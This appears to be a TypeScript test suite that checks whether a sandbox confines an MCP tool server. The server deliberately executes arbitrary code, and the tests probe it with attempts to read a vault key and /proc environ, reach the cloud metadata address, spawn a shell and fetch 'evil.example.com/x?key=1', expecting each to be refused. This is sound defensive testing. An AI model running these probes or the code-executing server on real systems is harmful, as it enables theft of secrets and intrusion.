import { mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { FileCapability } from '../../core/ports/capabilities/capabilities';
import type { Tool } from '../../core/ports/tools/tools';
import { createMcpSource } from '../../providers/tools/mcp/mcp-source';
import { compileForm } from '../../test/support/compile-form';
import { diskFolder } from '../../test/support/disk-folder';
import { describeSlow } from '../../test/support/slow-tests';
import { isolateProgram } from './isolate-program';

/** A server whose tool runs what it is told. */
const serverSource = `
const { createInterface } = require('node:readline');
const answer = (id, result) => process.stdout.write(JSON.stringify({ jsonrpc: '2.0', id, result }) + '\\n');
createInterface({ input: process.stdin }).on('line', async (line) => {
	const { id, method, params } = JSON.parse(line);
	if (method === 'initialize') answer(id, { protocolVersion: '2025-11-25', capabilities: { tools: {} }, serverInfo: { name: 'x', version: '1' } });
	else if (method === 'tools/list') answer(id, { tools: [{ name: 'run', inputSchema: { type: 'object' } }] });
	else if (method === 'tools/call') {
		const text = await new Function('require', 'return (async () => ' + params.arguments.code + ')()')(require).catch((error) => 'refused: ' + (error.code ?? error.cause?.code ?? error));
		answer(id, { content: [{ type: 'text', text: String(text) }] });
	} else if (id !== undefined) process.stdout.write(JSON.stringify({ jsonrpc: '2.0', id, error: { code: -32601, message: 'unknown' } }) + '\\n');
});
`;
const never = new AbortController().signal;
let folder: string;
let home: string;
let web: Server;

beforeAll(async () => {
	folder = realpathSync(mkdtempSync(join(diskFolder, 'troupe-programs-')));
	home = join(folder, 'home');
	for (const name of ['home', 'server', 'data']) mkdirSync(join(folder, name));
	writeFileSync(join(home, 'vault.key'), 'the key of the vault');
	writeFileSync(join(folder, 'server/server.js'), serverSource);
	writeFileSync(join(folder, 'data/list.txt'), 'declared');
	web = createServer((_, response) => response.end('reached')).listen(0, '127.0.0.1');
});
afterAll(() => {
	web.close();
	rmSync(folder, { recursive: true, force: true });
});

const folders = (): FileCapability[] => [
	{ path: join(folder, 'server'), access: 'read' },
	{ path: join(folder, 'data'), access: 'write' },
];
function open(granted: FileCapability[], requests?: string[]) {
	const file = realpathSync(process.execPath);
	const start = () =>
		isolateProgram(
			{
				file,
				args: [join(folder, 'server/server.js')],
				env: { KEY: 'given' },
				folders: granted,
				...(requests && { requests, allowPrivateNetworks: true }),
			},
			home,
		);
	return createMcpSource({ compileForm, server: 'x', effects: { run: 'reads' }, reach: { kind: 'program', key: 'x', start } });
}
const run = async ([tool]: Tool[], code: string) =>
	(await tool!.call({ code }, { signal: never, idempotencyKey: 'k', resultCharacters: 1_000 })).text;

describeSlow('a program that serves tools', () => {
	it('works with its folders, and reaches neither the key of the vault, nor the network, nor other programs (tya5/reyn#1344)', async () => {
		const source = open(folders());
		const tools = await source.tools(never);
		const read = (path: string) => run(tools, `require('node:fs').readFileSync(${JSON.stringify(path)}, 'utf8')`);
		expect(await read(join(folder, 'data/list.txt'))).toBe('declared');
		expect(await run(tools, 'process.env.KEY + process.env.HOME')).toBe('given/sandbox');
		expect(await run(tools, `require('node:fs').promises.writeFile('own.txt', 'x').then(() => 'written')`)).toBe('written');
		expect(await read(join(home, 'vault.key'))).toBe('refused: ENOENT');
		expect(await read(`/proc/${process.pid}/environ`)).toMatch(/^refused: (ENOENT|EACCES)$/);
		const { port } = web.address() as AddressInfo;
		expect(await run(tools, `fetch('http://127.0.0.1:${port}').then((response) => response.text())`)).toMatch(/^refused: /);
		expect(await run(tools, `require('node:child_process').execFileSync('/bin/sh', ['-c', 'echo started'])`)).toMatch(/^refused: /);
		await source.close();
	}, 240_000);

	it('makes the requests that its definition names, by the host, and no other', async () => {
		const { port } = web.address() as AddressInfo;
		const source = open(folders(), [`GET http://127.0.0.1:${port}/open*`]);
		const tools = await source.tools(never);
		const get = (address: string, method = 'GET') =>
			run(tools, `fetch('http://${address}', { method: '${method}' }).then(async (response) => response.status + await response.text())`);
		expect(await get(`127.0.0.1:${port}/open/1`)).toBe('200reached');
		expect(await get(`127.0.0.1:${port}/other`)).toMatch(/^403/);
		expect(await get(`127.0.0.1:${port}/open`, 'POST')).toMatch(/^403/);
		expect(await get('169.254.169.254/latest')).toMatch(/^403/);
		const { sandbox } = await tools[0]!.call(
			{ code: `fetch('https://evil.example.com/x?key=1')` },
			{ signal: never, idempotencyKey: 'k', resultCharacters: 9 },
		);
		expect(sandbox).toMatchObject({ requests: [{ method: 'GET', host: 'evil.example.com', path: '/x?key', action: 'refuse' }] });
		const raw = `new Promise((resolve, reject) => {
			const socket = require('node:dgram').createSocket('udp4').on('error', reject);
			socket.send('x', ${port}, '127.0.0.1', (error) => (error ? reject(error) : resolve('sent')));
		})`;
		expect(await run(tools, raw)).toMatch(/^refused: /);
		await source.close();
	}, 240_000);

	it('ends when its own files exceed the disk that it gets', async () => {
		const source = open(folders());
		const tools = await source.tools(never);
		const fill = `(async () => {
			for (let index = 0; index < 100; index += 1) require('node:fs').writeFileSync('f' + index, Buffer.alloc(1_000_000));
			await new Promise((resolve) => setTimeout(resolve, 60_000));
			return 'filled';
		})()`;
		expect(await run(tools, fill)).toMatch(/ended the connection/);
		await source.close();
	}, 240_000);

	it.each(['home', '.'])(
		'does not get the state folder %s',
		async (name) => {
			const source = open([...folders(), { path: join(folder, name === '.' ? '' : name), access: 'read' }]);
			await expect(source.tools(never)).rejects.toMatchObject({ message: expect.stringContaining("Troupe's home") as string });
		},
		240_000,
	);
});
